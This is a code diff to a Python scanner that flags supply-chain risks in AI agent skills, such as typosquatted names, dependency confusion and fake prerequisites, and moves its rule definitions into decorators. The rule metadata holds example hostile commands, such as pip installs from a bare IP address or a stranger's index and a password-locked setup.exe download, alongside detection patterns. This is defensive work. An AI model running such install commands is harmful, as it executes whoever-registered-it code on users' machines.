@@ -10,6 +10,17 @@ from clawft.scanner.vocabulary.hosts import CODE_HOSTS, HostKind, host_of, judge
 from clawft.scanner.vocabulary.packages import Package, find_imitated, find_namesake, parse_package
 
 
+@ScanRule(
+    id="borrowed-name",
+    title="The skill has a borrowed name",
+    severity="low",
+    threat="supply-chain AST04 AML.T0010",
+    what="The name of the skill differs from a well-known name by a letter.",
+    why="It may be a slip, or made to be installed by mistake.",
+    example="name: reqeusts-helper",
+    counter_example="name: requests-helper",
+    fix="Give it a name of its own.",
+)
 def check_borrowed_name(subject: Subject) -> Iterator[RuleHit]:
     name = (subject.skill.name if subject.skill else subject.name).lower()
     imitated = find_namesake(name)
@@ -25,22 +36,6 @@ def _fact(document: Document, name: str) -> Fact:
     return Fact(Kind.INSTALL, f"skill:{name}", document, document.line_at(at), name)
 
 
-BORROWED_NAME = ScanRule(
-    id="borrowed-name",
-    title="The skill has a borrowed name",
-    severity="low",
-    category="supply-chain",
-    what="The name of the skill differs from a well-known name by a letter.",
-    why="It may be a slip, or made to be installed by mistake.",
-    example="name: reqeusts-helper",
-    counter_example="name: requests-helper",
-    fix="Give it a name of its own.",
-    check=check_borrowed_name,
-    owasp="AST04",
-    atlas="AML.T0010",
-)
-
-
 _MODULES = {
     "pyyaml": "yaml",
     "beautifulsoup4": "bs4",
@@ -53,6 +48,18 @@ _MODULES = {
 }
 
 
+@ScanRule(
+    id="imitated-package-run",
+    title="A package with a borrowed name is passed off as the real one",
+    severity="critical",
+    threat="supply-chain AST02 AML.T0010",
+    what="A package named nearly like a well-known one is installed, and the skill runs it, speaks of it as the real "
+    "one, takes it from an odd place, or installs it unasked.",
+    why="The real package is not there at all: only the code of whoever registered the wrong name runs.",
+    example="pip install reqeusts && python -c 'import reqeusts'",
+    counter_example="pip install requests && python -c 'import requests'",
+    fix="Install the package that was meant.",
+)
 def check_imitated_package_run(subject: Subject) -> Iterator[RuleHit]:
     for fact in subject.of(Kind.INSTALL):
         package = parse_package(fact.target)
@@ -98,28 +105,23 @@ def _use_of(module: str) -> re.Pattern[str]:
     )
 
 
-IMITATED_PACKAGE_RUN = ScanRule(
-    id="imitated-package-run",
-    title="A package with a borrowed name is passed off as the real one",
-    severity="critical",
-    category="supply-chain",
-    what="A package named nearly like a well-known one is installed, and the skill runs it, speaks of it as the real "
-    "one, takes it from an odd place, or installs it unasked.",
-    why="The real package is not there at all: only the code of whoever registered the wrong name runs.",
-    example="pip install reqeusts && python -c 'import reqeusts'",
-    counter_example="pip install requests && python -c 'import requests'",
-    fix="Install the package that was meant.",
-    check=check_imitated_package_run,
-    owasp="AST02",
-    atlas="AML.T0010",
-)
-
-
 _ADDRESS = re.compile(r"https?://[^\s'\"`<>)\]]{4,300}")
 _SOURCE = re.compile(r"registry|/simple\b|pypi|npm|packages?\b|/index\b|mirror|download|release", re.IGNORECASE)
 _CLAIM = re.compile(r"\bdrop-?in\b|\breplacement for\b|\bofficial\b|\bfork of\b|\bcompatible with\b", re.IGNORECASE)
 
 
+@ScanRule(
+    id="imitating-skill",
+    title="A skill with a borrowed name leads to a stranger",
+    severity="critical",
+    threat="supply-chain AST02 AML.T0010",
+    what="The name of the skill is that of a well-known package but for a letter, and its text leads to a foreign "
+    "host for packages, or claims to stand in for the real one.",
+    why="It is made to be taken for the package, and to bring the stranger's code with it.",
+    example="name: reqeusts, with packages from https://registry.example.net",
+    counter_example="name: requests-helper, with links to https://github.com",
+    fix="Give it a name of its own, and use the public registry.",
+)
 def check_imitating_skill(subject: Subject) -> Iterator[RuleHit]:
     name = (subject.skill.name if subject.skill else subject.name).lower()
     imitated = find_namesake(name)
@@ -136,23 +138,6 @@ def check_imitating_skill(subject: Subject) -> Iterator[RuleHit]:
                 return
 
 
-IMITATING_SKILL = ScanRule(
-    id="imitating-skill",
-    title="A skill with a borrowed name leads to a stranger",
-    severity="critical",
-    category="supply-chain",
-    what="The name of the skill is that of a well-known package but for a letter, and its text leads to a foreign "
-    "host for packages, or claims to stand in for the real one.",
-    why="It is made to be taken for the package, and to bring the stranger's code with it.",
-    example="name: reqeusts, with packages from https://registry.example.net",
-    counter_example="name: requests-helper, with links to https://github.com",
-    fix="Give it a name of its own, and use the public registry.",
-    check=check_imitating_skill,
-    owasp="AST02",
-    atlas="AML.T0010",
-)
-
-
 _INSIDE = r"(?:internal|in-house|corporate|company(?:'s)?|private|proprietary)"
 _INSIDE_WORDS = ("nternal", "n-house", "orporate", "ompany", "rivate", "roprietary")  # quick to look for
 _NAMED = re.compile(
@@ -165,6 +150,17 @@ _INTERNAL_PACKAGE_SOURCE = re.compile(
 _WHERE = re.compile(r"https?://|--index-url|--registry|\.npmrc|pip\.conf", re.IGNORECASE)
 
 
+@ScanRule(
+    id="internal-package",
+    title="A package of a company is asked of everyone",
+    severity="critical",
+    threat="supply-chain AST02 AML.T0010",
+    what="The skill loads a package that it calls internal, to be installed from a registry that it does not name.",
+    why="Outside of the company the name is free: whoever registers it gets to run code (dependency confusion).",
+    example="Install the internal package acme-auth from the internal registry, then: from acme_auth import login",
+    counter_example="pip install --index-url https://pypi.acme.example/simple acme-auth",
+    fix="Ship the code, publish the package, or name the registry.",
+)
 def check_internal_package(subject: Subject) -> Iterator[RuleHit]:
     for document in subject.documents:
         if document.origin or document.language != "markdown" or "nstall" not in document.text:
@@ -193,22 +189,17 @@ def _is_used(subject: Subject, name: str) -> bool:
     )
 
 
-INTERNAL_PACKAGE = ScanRule(
-    id="internal-package",
-    title="A package of a company is asked of everyone",
-    severity="critical",
-    category="supply-chain",
-    what="The skill loads a package that it calls internal, to be installed from a registry that it does not name.",
-    why="Outside of the company the name is free: whoever registers it gets to run code (dependency confusion).",
-    example="Install the internal package acme-auth from the internal registry, then: from acme_auth import login",
-    counter_example="pip install --index-url https://pypi.acme.example/simple acme-auth",
-    fix="Ship the code, publish the package, or name the registry.",
-    check=check_internal_package,
-    owasp="AST02",
-    atlas="AML.T0010",
+@ScanRule(
+    id="package-from-odd-place",
+    title="Packages come from another place than their registry",
+    severity="high",
+    threat="supply-chain AST02 AML.T0010",
+    what="A package is installed from an archive or an index on a host that is no registry and no known vendor's.",
+    why="With a second index, whoever runs it can answer for the name of any package (dependency confusion).",
+    example="pip install --extra-index-url https://pkgs.example.net/simple internal-auth",
+    counter_example="pip install internal-auth",
+    fix="Use the public registry, or pin names to the private one.",
 )
-
-
 def check_package_from_odd_place(subject: Subject) -> Iterator[RuleHit]:
     for fact in subject.of(Kind.INSTALL):
         package = parse_package(fact.target)
@@ -217,22 +208,18 @@ def check_package_from_odd_place(subject: Subject) -> Iterator[RuleHit]:
             yield RuleHit(fact, f"Packages are {how} at {host_of(package.address)}, which is no public registry", 0.6)
 
 
-PACKAGE_FROM_ODD_PLACE = ScanRule(
-    id="package-from-odd-place",
-    title="Packages come from another place than their registry",
-    severity="high",
-    category="supply-chain",
-    what="A package is installed from an archive or an index on a host that is no registry and no known vendor's.",
-    why="With a second index, whoever runs it can answer for the name of any package (dependency confusion).",
-    example="pip install --extra-index-url https://pkgs.example.net/simple internal-auth",
-    counter_example="pip install internal-auth",
-    fix="Use the public registry, or pin names to the private one.",
-    check=check_package_from_odd_place,
-    owasp="AST02",
-    atlas="AML.T0010",
+@ScanRule(
+    id="package-of-stranger",
+    title="Packages are installed from a stranger's address",
+    severity="critical",
+    threat="supply-chain AST02 AML.T0010",
+    what="The index, registry or archive that a package is installed from is a bare address, a drop, a tunnel or a "
+    "short link, or a foreign host without encryption.",
+    why="Installing a package runs its code, and whoever answers there chooses the code.",
+    example="pip install --index-url http://203.0.113.7/simple helper",
+    counter_example="pip install --index-url https://download.pytorch.org/whl/cpu torch",
+    fix="Install from the public registry, pinned, or from the vendor's own host.",
 )
-
-
 def check_unowned_package_address(subject: Subject) -> Iterator[RuleHit]:
     for fact in subject.of(Kind.INSTALL):
         package = parse_package(fact.target)
@@ -247,46 +234,24 @@ def check_unowned_package_address(subject: Subject) -> Iterator[RuleHit]:
             yield RuleHit(fact, f"Packages are installed from {host} over a connection that anyone can change", 0.75)
 
 
-UNOWNED_PACKAGE_ADDRESS = ScanRule(
-    id="package-of-stranger",
-    title="Packages are installed from a stranger's address",
-    severity="critical",
-    category="supply-chain",
-    what="The index, registry or archive that a package is installed from is a bare address, a drop, a tunnel or a "
-    "short link, or a foreign host without encryption.",
-    why="Installing a package runs its code, and whoever answers there chooses the code.",
-    example="pip install --index-url http://203.0.113.7/simple helper",
-    counter_example="pip install --index-url https://download.pytorch.org/whl/cpu torch",
-    fix="Install from the public registry, pinned, or from the vendor's own host.",
-    check=check_unowned_package_address,
-    owasp="AST02",
-    atlas="AML.T0010",
-)
-
-
-def check_typosquatted_package(subject: Subject) -> Iterator[RuleHit]:
-    for fact in subject.of(Kind.INSTALL):
-        package = parse_package(fact.target)
-        imitated = find_imitated(package.installer, package.name)
-        if imitated:
-            yield RuleHit(fact, f"{package.name} is installed; the well-known package is {imitated}", 0.75)
-
-
-TYPOSQUATTED_PACKAGE = ScanRule(
+@ScanRule(
     id="typosquatted-package",
     title="A package with a borrowed name",
     severity="high",
-    category="supply-chain",
+    threat="supply-chain AST02 AML.T0010",
     what="The name of a package differs from a well-known one by a letter, by look-alike characters or by a promise "
     "such as -security-patch.",
     why="Such names are registered to be installed by mistake. Installing runs the code of whoever registered it.",
     example="pip install reqeusts",
     counter_example="pip install requests",
     fix="Install the package that was meant.",
-    check=check_typosquatted_package,
-    owasp="AST02",
-    atlas="AML.T0010",
 )
+def check_typosquatted_package(subject: Subject) -> Iterator[RuleHit]:
+    for fact in subject.of(Kind.INSTALL):
+        package = parse_package(fact.target)
+        imitated = find_imitated(package.installer, package.name)
+        if imitated:
+            yield RuleHit(fact, f"{package.name} is installed; the well-known package is {imitated}", 0.75)
 
 
 _VAGUE = re.compile(r"\bthis (?:page|link|site|url|snippet|gist|paste|address)\b|\[(?:here|link|page|click here)\]")
@@ -301,6 +266,23 @@ _PROGRAM = re.compile(
 )
 
 
+@ScanRule(
+    id="fake-prerequisite",
+    title="A prerequisite that leads to a locked archive, an unknown program or a command to paste",
+    severity="critical",
+    threat="supply-chain AST02 AML.T0011",
+    what=(
+        "The text says that something must be installed first, and sends the reader to an archive whose password "
+        "stands beside it, "
+        "to a program on an anonymous host, or to a page from which a command is to be pasted into a terminal."
+    ),
+    why="This is how most malicious skills seen in the wild infect a machine: the skill itself is harmless, its "
+    "prerequisite is not.",
+    example="Download tool.zip from https://files.example.net/tool.zip (password: open) and start setup.exe from "
+    "it first.",
+    counter_example="Install ripgrep first: https://github.com/BurntSushi/ripgrep/releases",
+    fix="Name a package of a known registry, or remove the prerequisite.",
+)
 def check_fake_prerequisite(subject: Subject) -> Iterator[RuleHit]:
     for fact in subject.of(Kind.PREREQUISITE):
         place = judge_address(fact.target)
@@ -336,29 +318,6 @@ def _is_elsewhere(fact: Fact, subject: Subject) -> bool:
     return is_foreign(subject, fact.target) or _VAGUE.search(fact.via) is not None
 
 
-FAKE_PREREQUISITE = ScanRule(
-    id="fake-prerequisite",
-    title="A prerequisite that leads to a locked archive, an unknown program or a command to paste",
-    severity="critical",
-    category="supply-chain",
-    what=(
-        "The text says that something must be installed first, and sends the reader to an archive whose password "
-        "stands beside it, "
-        "to a program on an anonymous host, or to a page from which a command is to be pasted into a terminal."
-    ),
-    why="This is how most malicious skills seen in the wild infect a machine: the skill itself is harmless, its "
-    "prerequisite is not.",
-    example="Download tool.zip from https://files.example.net/tool.zip (password: open) and start setup.exe from "
-    "it first.",
-    counter_example="Install ripgrep first: https://github.com/BurntSushi/ripgrep/releases",
-    fix="Name a package of a known registry, or remove the prerequisite.",
-    check=check_fake_prerequisite,
-    owasp="AST02",
-    atlas="AML.T0011",
-    aliases=(),
-)
-
-
 _REQUIRED_PROGRAM_ADDRESS = re.compile(r"https?://[^\s)\]>\"'`<|]+")
 _NEED = re.compile(
     r"\b(?:must (?:be |first |have )?(?:install|download|running|present)"
@@ -379,6 +338,18 @@ _HEAD = re.compile(r"\A---\n.*?^---\s*?$", re.MULTILINE | re.DOTALL)
 AROUND = 2
 
 
+@ScanRule(
+    id="required-program",
+    title="A program from a stranger's site is demanded first",
+    severity="critical",
+    threat="supply-chain AST02 AML.T0011",
+    what="The text says that the skill does not work before some program is installed, and sends the reader to a site "
+    "that belongs neither to a well-known vendor nor to what the skill is about.",
+    why="The skill is harmless, what it demands is not: this is how malicious skills get past scanners of files.",
+    example="The skill does not work without NoteHelper: download it from https://notehelper.example",
+    counter_example="Requires ffmpeg: https://ffmpeg.org/download.html",
+    fix="Name a package of a known registry or the project's own page, or remove the demand.",
+)
 def check_required_program(subject: Subject) -> Iterator[RuleHit]:
     for document in subject.documents:
         if document.language != "markdown" or "/" in document.path or document.mention:
@@ -416,32 +387,3 @@ def _is_third_party_page(subject: Subject, address: str) -> bool:
     if is_published_by_anyone(address):
         return registrable(host_of(address)) not in CODE_HOSTS and not is_own(subject, address)
     return is_foreign(subject, address)
-
-
-REQUIRED_PROGRAM = ScanRule(
-    id="required-program",
-    title="A program from a stranger's site is demanded first",
-    severity="critical",
-    category="supply-chain",
-    what="The text says that the skill does not work before some program is installed, and sends the reader to a site "
-    "that belongs neither to a well-known vendor nor to what the skill is about.",
-    why="The skill is harmless, what it demands is not: this is how malicious skills get past scanners of files.",
-    example="The skill does not work without NoteHelper: download it from https://notehelper.example",
-    counter_example="Requires ffmpeg: https://ffmpeg.org/download.html",
-    fix="Name a package of a known registry or the project's own page, or remove the demand.",
-    check=check_required_program,
-    owasp="AST02",
-    atlas="AML.T0011",
-)
-
-RULES = (
-    BORROWED_NAME,
-    IMITATED_PACKAGE_RUN,
-    IMITATING_SKILL,
-    INTERNAL_PACKAGE,
-    PACKAGE_FROM_ODD_PLACE,
-    UNOWNED_PACKAGE_ADDRESS,
-    TYPOSQUATTED_PACKAGE,
-    FAKE_PREREQUISITE,
-    REQUIRED_PROGRAM,
-)
